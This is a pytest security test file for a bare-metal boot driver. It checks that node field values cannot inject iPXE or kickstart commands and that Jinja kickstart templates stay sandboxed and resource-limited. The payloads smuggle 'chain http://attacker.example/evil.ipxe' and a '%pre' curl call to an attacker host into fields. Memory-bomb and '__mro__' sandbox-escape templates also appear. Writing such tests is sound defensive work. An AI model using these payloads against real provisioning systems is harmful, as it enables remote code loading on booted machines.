"""Boot scripts and kickstart files: values of nodes are data, and templates have limits."""

import os
import re
import time
from contextlib import suppress
from itertools import cycle, islice, product
from pathlib import Path

import pytest

from drivers.boot import templates
from drivers.core.errors import HardwareError, InvalidDriverInfo
from drivers.core.target import Nic, VolumeConnector, VolumeTarget
from tests.security.hostile import peak_memory
from tests.unit.drivers.machines import KERNEL, OPTIONS, RAMDISK, image_server, target

ORDER = "chain http://attacker.example/evil.ipxe"
PAYLOADS = (
    f"x\n{ORDER}\n#", f"x\r{ORDER}", f"x && {ORDER} ||", f"x || {ORDER}", f"x ; {ORDER}", f"x\x0b{ORDER}",
    f"x\u2028{ORDER}", "x ${net0/mac}", "x${net0/mac}y", f"x \\\n{ORDER}", "x\\", "#x", f"x\0{ORDER}",
    "\n\n%pre\ncurl http://attacker.example\n%end", "${{x}}", "x\t&& chain y",
)  # fmt: skip


@pytest.fixture(scope="module")
def server():
    with image_server() as started_server:
        started_server.files |= {"/kernel": KERNEL, "/ramdisk": RAMDISK}
        yield started_server


def node(server, folder, boot, deploy, field, value):
    """A node whose `field` has a value; other fields are as they should be."""
    info = {name: f"{server.url}/{name}" for name in ("kernel", "ramdisk")}
    info |= {"image_source": "http://mirror/root.img", "stage2": "http://mirror/stage2"}
    driver_info = {"deploy_kernel": info["kernel"], "deploy_ramdisk": info["ramdisk"]}
    volume = {
        "target_portal": "192.0.2.1:3260",
        "target_iqn": "iqn.2026-01.org:disk",
        "target_lun": 1,
    }
    connector, place, _, name = "iqn.2026-01.org:node", *field.partition("/")
    {"instance_info": info, "driver_info": driver_info, "volume": volume}.get(place, {})[name] = (
        value
    )
    if place == "connector":
        connector = value
    if field == "instance_info/boot_iso":
        del info["kernel"], info["ramdisk"]
    changes = {
        "deploy": {"http_root": f"{folder}/http", "http_url": "http://conductor:8080"},
        "pxe": {"tftp_root": f"{folder}/tftp", "instance_master_path": f"{folder}/kept"},
    }
    return target(
        interfaces={"boot": boot, "deploy": deploy, "storage": "external"},
        options={group: {**values, **changes.get(group, {})} for group, values in OPTIONS.items()},
        instance_info=info, driver_info=driver_info, nics=(Nic("1", "52:54:00:aa:00:01"),),
        volume_targets=(VolumeTarget("v", "iscsi", "1", 0, volume),) if place in ("volume", "connector") else (),
        volume_connectors=(VolumeConnector("c", "iqn", connector),),
    )  # fmt: skip


CASES = [
    *[("ramdisk", f"instance_info/{name}") for name in ("ramdisk_kernel_arguments", "kernel_append_params",
                                                        "boot_iso", "kernel", "ramdisk")],
    ("ramdisk", "driver_info/kernel_append_params"), ("direct", "driver_info/kernel_append_params"),
    *[("anaconda", f"instance_info/{name}") for name in ("image_source", "stage2", "kernel_append_params",
                                                         "ks_template")],
    *[("direct", f"volume/{name}") for name in ("target_portal", "target_iqn", "target_lun",
                                                "auth_username", "auth_password")],
    ("direct", "connector/id"),
]  # fmt: skip


@pytest.mark.parametrize(("number", "payload"), [*enumerate(PAYLOADS)])
def test_no_value_of_a_node_becomes_a_command_of_a_boot_loader(
    server, tmp_path_factory, number, payload
):
    boots = islice(cycle(("ipxe", "http-ipxe", "pxe", "http")), number, None)
    for ((deploy, field), prefix), boot in zip(
        product(CASES, ("", "http://mirror/")), boots, strict=False
    ):
        folder = tmp_path_factory.mktemp("boot")
        it = node(server, folder, boot, deploy, field, prefix + payload)
        for prepare in (it.driver.boot.prepare_ramdisk, it.driver.boot.prepare_instance):
            with suppress(HardwareError):
                prepare(it)
        check_commands(folder)


def check_commands(folder):
    for path in Path(folder).rglob("*"):
        if path.name == "ks.cfg" or path.name.startswith("config-"):
            text = path.read_text()
            assert not re.search(r"(^|&&|\|\||;)\s*chain http://attacker", text, re.MULTILINE), text
            assert "${net0/mac}" not in text
            assert not re.search(r"^\s*curl http://attacker", text, re.MULTILINE)
            assert "\\\n" not in text


@pytest.mark.parametrize(
    ("template", "reason"),
    [
        ("{{ ('x' * 700000000)|length }}", "memory"),
        ("{% for a in range(99999) %}{% for b in range(99999) %}{% endfor %}{% endfor %}", r"5 s"),
        ("{{ 1 / 0 }}", "ZeroDivisionError"),
        ("{{ 'x' * 2000000 }}", "more than 1048576 characters"),
        ("{{ ''.__class__.__mro__ }}", "unsafe"),
        ("{{ missing }}", "missing"),
        ("{% endfor %}", "endfor"),
        ("{{ [1]|sum(start='x') }}", "TypeError"),
    ],
)
def test_a_template_ends_within_its_limits_and_with_the_error_of_its_field(template, reason):
    earlier_peak, began = peak_memory(), time.monotonic()
    with pytest.raises(InvalidDriverInfo, match=rf"^instance_info/ks_template: .*{reason}"):
        templates.render(template, {}, "instance_info/ks_template")
    assert peak_memory() - earlier_peak < 20
    assert time.monotonic() - began < 60


def test_a_template_sees_neither_the_environment_nor_a_file_of_the_conductor(monkeypatch):
    """Code that has escaped from the sandbox would be in a process without either."""
    monkeypatch.setenv("INGOT_DATABASE_CONNECTION", "postgresql://ingot:DB-PW@db/ingot")
    monkeypatch.setattr(templates, "_CHILD", Path(__file__).with_name("escaped_template.py"))
    output = templates.render("", {}, "ks_template")
    assert "environment: []" in output
    assert "opened: Too many open files" in output
    assert os.environ["INGOT_DATABASE_CONNECTION"] not in output
